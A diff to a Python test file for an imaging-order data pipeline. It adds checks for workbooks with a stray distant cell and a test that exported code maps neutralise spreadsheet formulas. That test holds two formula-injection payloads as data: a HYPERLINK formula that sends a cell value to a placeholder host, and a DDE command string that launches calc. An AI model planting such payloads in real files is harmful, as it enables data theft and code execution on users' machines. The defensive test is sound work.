@@ -23,6 +23,7 @@ import polars as pl
 import pytest
 from conftest import DX_HEADER, ORDER_HEADER, PROC_HEADER, run_cli, write_csv, write_small_input
 
+from pipeline import formula_guard
 from pipeline.ingest.contract import CONTRACT_BY_NAME, CONTRACTS
 
 PROC_HEADER_X = [*PROC_HEADER, "needle_gauge", "attempts"]
@@ -920,6 +921,43 @@ def test_merged_cells_stop_the_run_not_empty_the_rows_below(tmp_path, small_inpu
     _expect_exit_2(tmp_path, small_input, "imaging_orders.xlsx [sheet imaging_orders]: has merged cells (E2:E4)", "Unmerge")
 
 
+def _orders_workbook_with_a_stray_cell(folder: Path, row: int, column: int) -> Path:
+    import xlsxwriter
+
+    rows = _orders_as_workbook_rows(folder)
+    book = xlsxwriter.Workbook(str(folder / "imaging_orders.xlsx"))
+    sheet = book.add_worksheet("imaging_orders")
+    for r, values in enumerate(rows):
+        sheet.write_row(r, 0, values)
+    sheet.write_string(row, column, "x")
+    book.close()
+    return folder / "imaging_orders.xlsx"
+
+
+def test_a_stray_cell_far_from_the_table_stops_the_run_in_one_line(tmp_path, small_input):
+    """One value at XFD1048576 in a 6 kB workbook: calamine laid out every cell from A1 to it, asked for 512 GB
+    and aborted the run (exit 134, a Rust backtrace)."""
+    _orders_workbook_with_a_stray_cell(small_input, 1_048_575, 16_383)
+    _expect_exit_2(
+        tmp_path,
+        small_input,
+        "imaging_orders.xlsx [sheet imaging_orders]: its cells reach row 1,048,576 and column 16,384 "
+        "(17,179,869,184 cells from A1), more than the 67,108,864 a sheet is read with",
+        "Delete it and save the workbook again, or export CSV",
+    )
+
+
+def test_a_sheet_is_refused_by_the_cells_its_range_spans_not_by_its_width_alone(tmp_path, small_input):
+    """ALL70001 (70,001,000 cells from A1) is refused; ALL60001 (60,001,000: a wide sheet, not a stray cell) is not."""
+    from pipeline.errors import InputFileError
+    from pipeline.ingest import xlsx
+
+    with pytest.raises(InputFileError, match="row 70,001 and column 1,000"):
+        xlsx._refuse_a_range_too_large(_orders_workbook_with_a_stray_cell(small_input, 70_000, 999), "imaging_orders")
+    wide = _orders_workbook_with_a_stray_cell(write_small_input(tmp_path / "wide"), 60_000, 999)
+    xlsx._refuse_a_range_too_large(wide, "imaging_orders")
+
+
 CELL_XML = {  # how a workbook holds a cell calamine reads as empty: an error value, a formula never calculated
     "error": ('<c r="F3"><f>1/0</f><v>0</v></c>', '<c r="F3" t="e"><f>1/0</f><v>#DIV/0!</v></c>'),
     "formula": ('<c r="F3"><f>1/0</f><v>0</v></c>', '<c r="F3"><f>1/0</f></c>'),
@@ -1028,3 +1066,32 @@ def test_an_id_moved_by_an_unquoted_delimiter_is_not_shown(tmp_path, small_input
     out = _run_showing_nothing_of(tmp_path, small_input, "MRN-2")
     line6 = _rejects(out).filter((pl.col("table_name") == "imaging_orders") & (pl.col("source_line") == "6"))
     assert line6.select("column_name", "value", "action").rows() == [("ordered_at", None, "row_rejected")]
+
+
+def test_the_starter_code_map_holds_no_live_formula_and_is_read_back_as_written(tmp_path, small_input):
+    """inspect --write-config copied an order code `=HYPERLINK(...)` and its order name `@SUM(...)` from the
+    extract into local_code_map.csv as they were: live formulas in the file a person opens in a spreadsheet to
+    fill in. They are neutralised there, and a run reads the filled-in row back as the code the orders hold."""
+    rows = [[*row, "MRI"] for row in csv.reader((small_input / "imaging_orders.csv").open(encoding="utf-8"))][1:]
+    code = '=HYPERLINK("HTTP://X.INVALID/?"&A1)'
+    rows.append(["O5", "MRN-2", "2025-06-06 10:00:00", code, "Emergency", "G97.1", "completed", "@SUM(1+1)*cmd|' /C calc'!A0"])
+    write_csv(small_input / "imaging_orders.csv", [*ORDER_HEADER, "order_name"], rows)
+    site = tmp_path / "site"
+    site.mkdir()
+    r = run_cli("inspect", "--input", small_input, "--write-config", site / "site.toml")
+    assert r.returncode == 0, r.stderr
+    with (site / "local_code_map.csv").open(newline="", encoding="utf-8") as fh:
+        template = list(csv.DictReader(fh))
+    assert not [v for row in template for v in row.values() if formula_guard.starts_formula(v)], template
+    (row,) = template
+    assert (row["code"], row["description"]) == ("'" + code, "'@SUM(1+1)*cmd|' /C calc'!A0")
+    row |= {"study_type": "mri_spine", "modality": "MR", "regions": "CTL", "contrast": "without_and_with"}
+    with (small_input / "local_code_map.csv").open("w", newline="", encoding="utf-8") as fh:
+        writer = csv.DictWriter(fh, fieldnames=list(row))
+        writer.writeheader()
+        writer.writerow(row)
+    out = tmp_path / "out"
+    r = run_cli("run", "--input", small_input, "--out", out, "--no-validate", "--quiet")
+    assert r.returncode == 0, r.stderr
+    audited = pl.read_parquet(out / "csf_leak" / "audited_orders.parquet").filter(pl.col("order_id") == "O5")
+    assert audited.select("order_code", "study_type", "regions").rows() == [(code, "mri_spine", "CTL")]
